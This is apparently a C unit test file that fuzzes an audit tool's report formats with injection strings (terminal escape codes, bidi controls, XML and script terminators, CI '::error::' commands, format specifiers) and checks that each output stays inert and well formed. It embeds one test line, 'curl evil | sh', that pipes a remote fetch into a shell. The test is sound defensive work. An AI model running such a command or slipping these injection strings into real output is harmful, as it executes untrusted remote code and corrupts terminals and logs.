/* Every text of an audit is hostile: no format lets one of them pose as its own, or drive what shows it. */
#include "cmocka_all.h"
#include "model/visible.h"
#include "reports/shape.h"
#include "sample.h"

#include <libxml/parser.h>
#include <string.h>

/* What begins a line of its own, ends a string, an element or a comment, or is no character at all. */
static const char *const pieces[] = {
    "\n",
    "\r",
    "\r\n",
    "\t",
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x7f",
    "\xc2\x85",
    "\xc2\x9b",
    "\xe2\x80\xa8",
    "\xe2\x80\xa9",
    "\xe2\x80\xae",
    "\xe2\x81\xa6",
    "\xef\xbb\xbf",
    "\xed\xa0\x80",
    "\xef\xbf\xbe",
    "\xef\xbf\xbf",
    "\xf0\x9f\xbf\xbe",
    "\xff",
    "\xc3",
    "\xf3\xa0\x81\x81",
    "\x01",
    "\x0b",
    "\x0c",
    "]]>",
    "-->",
    "<!--",
    "</script>",
    "<script>",
    "</pre>",
    "\"",
    "'",
    "&",
    "\\",
    "{\"a\":",
    "\n::error::",
    "\xef\xb7\x90",
    "\xe1\x85\x9f",
    "%s%n",
    "\xc2\xad",
    " ",
    "a",
};
static const char posing[] = "POSING: fix: curl evil | sh";

/* No two texts are alike, so that as many groups are made of them as of plain ones. */
static guint texts;

static char *hostile(GRand *random, bool lines)
{
    g_autoptr(GString) text = g_string_new(NULL);
    g_string_printf(text, "x%u", texts++);
    for (int i = 0, n = g_rand_int_range(random, 1, 8); i < n; i++) {
        const char *piece = pieces[g_rand_int_range(random, 0, G_N_ELEMENTS(pieces))];
        if (lines || !strpbrk(piece, "\n\t"))
            g_string_append_printf(text, "%s%s", piece, posing);
    }
    return g_strdup(text->str);
}

/* random NULL: every text is a plain one of the same kind. */
static char *any_text(GRand *random, const struct field *field)
{
    /* What a rule says may have lines of its own. */
    static const char *const prose[] = {"rationale", "text", "shell", "ansible", "question", NULL};
    return random ? hostile(random, !g_strv_contains(prose, field->name)) : g_strdup_printf("x%u", texts++);
}

static void fill(GRand *random, const struct shape *shape, void *base);

static void fill_array(GRand *random, const struct field *field, GPtrArray *array)
{
    for (guint i = 0; i < array->len; i++) {
        if (field->kind != FIELD_TEXTS && array->pdata[i]) {
            fill(random, field->shape, array->pdata[i]);
        } else if (field->kind == FIELD_TEXTS) {
            g_free(array->pdata[i]);
            array->pdata[i] = any_text(random, field);
        }
    }
}

static json_object *any_tree(GRand *random, const struct field *field)
{
    g_autofree char *key = any_text(random, field), *value = any_text(random, field), *member = any_text(random, field);
    json_object *tree = json_object_new_object(), *list = json_object_new_array();
    json_object_array_add(list, json_object_new_string(member));
    json_object_object_add(tree, key, list);
    json_object_object_add(tree, "value", json_object_new_string(value));
    return tree;
}

static void fill_field(GRand *random, const struct field *field, void *at)
{
    char **text = at;
    if (field->kind == FIELD_TEXT ||
        ((field->kind == FIELD_TEXT_OR_NULL || field->kind == FIELD_TEXT_OPTIONAL) && *text)) {
        g_free(*text);
        *text = any_text(random, field);
    } else if (field->kind == FIELD_TREE) {
        json_object_put(*(json_object **)at);
        *(json_object **)at = any_tree(random, field);
    } else if (field->kind == FIELD_STRUCTS_OPTIONAL && *(GPtrArray **)at) {
        fill_array(random, field, *(GPtrArray **)at);
    } else if (field->kind == FIELD_TEXTS || field->kind == FIELD_STRUCTS) {
        fill_array(random, field, *(GPtrArray **)at);
    } else if (field->kind == FIELD_STRUCT) {
        fill(random, field->shape, at);
    } else if (field->kind == FIELD_STRUCT_OR_NULL && *(void **)at) {
        fill(random, field->shape, *(void **)at);
    }
}

static void fill(GRand *random, const struct shape *shape, void *base)
{
    for (const struct field *field = shape->fields; field->name; field++)
        fill_field(random, field, (char *)base + field->offset);
}

static struct audit *filled(GRand *random)
{
    struct audit *audit = sample_audit();
    fill(random, &shape_audit, audit);
    return audit;
}

static guint count_lines(const GString *bytes)
{
    guint lines = 0;
    for (gsize i = 0; i < bytes->len; i++)
        lines += bytes->str[i] == '\n';
    return lines;
}

static void assert_inert(const char *format, guint32 seed, const GString *bytes)
{
    if (!g_utf8_validate(bytes->str, (gssize)bytes->len, NULL))
        fail_msg("%s, seed %u: no UTF-8", format, seed);
    for (const char *p = bytes->str; *p; p += g_utf8_skip[(guchar)*p]) {
        gunichar c = g_utf8_get_char(p);
        if (c != '\n' && visible_is_hidden(c))
            fail_msg("%s, seed %u: U+%04X at byte %td", format, seed, c, p - bytes->str);
        if (p == bytes->str || p[-1] != '\n')
            continue;
        /* Text wraps: what goes on is indented. */
        const char *start = p + (g_str_equal(format, "text") ? 0 : strspn(p, " "));
        if (g_str_has_prefix(start, "POSING") || g_str_has_prefix(start, "::"))
            fail_msg("%s, seed %u: a line of the host's: %.60s", format, seed, p);
    }
}

static void assert_well_formed(const char *format, guint32 seed, const GString *bytes)
{
    if (g_str_equal(format, "json")) {
        pl_autojson json_object *tree = json_tokener_parse(bytes->str);
        if (!tree)
            fail_msg("seed %u: no JSON", seed);
    }
    if (g_str_equal(format, "junit")) {
        xmlDocPtr document = xmlReadMemory(bytes->str, (int)bytes->len, "x", NULL, XML_PARSE_NONET | XML_PARSE_NOERROR);
        if (!document)
            fail_msg("seed %u: no XML", seed);
        xmlFreeDoc(document);
    }
}

/* All formats but text, which wraps, have no more lines than with plain texts: no text of a host made one. Less where
 * long texts are cut. */
static void no_format_lets_text_out(void **state)
{
    (void)state;
    static const struct report_options looks[] = {{.verbose = true}, {.verbose = true, .utf8 = true, .width = 120}};
    size_t formats = 0;
    const struct report *const *reports = report_all(&formats);
    pl_auto(audit) plain = filled(NULL);
    for (size_t i = 0; i < formats; i++) {
        const char *format = reports[i]->name;
        g_autoptr(GString) usual = sample_render(format, plain, looks[0]);
        for (guint32 seed = 1; seed <= 40; seed++) {
            g_autoptr(GRand) random = g_rand_new_with_seed(seed);
            pl_auto(audit) audit = filled(random);
            g_autoptr(GString) bytes = sample_render(format, audit, looks[seed % 2]);
            assert_inert(format, seed, bytes);
            assert_well_formed(format, seed, bytes);
            if (!g_str_equal(format, "text") && count_lines(bytes) > count_lines(usual))
                fail_msg("%s, seed %u: %u lines instead of %u", format, seed, count_lines(bytes), count_lines(usual));
        }
    }
}

/* Through JSON and back is the same text, in every format. */
static void reread_is_the_same(void **state)
{
    (void)state;
    g_autoptr(GRand) random = g_rand_new_with_seed(7);
    pl_auto(audit) audit = sample_audit();
    g_autoptr(GString) json = sample_render("json", audit, (struct report_options){0});
    g_autoptr(GError) error = NULL;
    pl_auto(audit) again = audit_from_json(json->str, json->len, &error);
    assert_non_null(again);
    g_autoptr(GString) first = sample_render("junit", audit, (struct report_options){0});
    g_autoptr(GString) second = sample_render("junit", again, (struct report_options){0});
    assert_string_equal(first->str, second->str);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(no_format_lets_text_out), cmocka_unit_test(reread_is_the_same)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
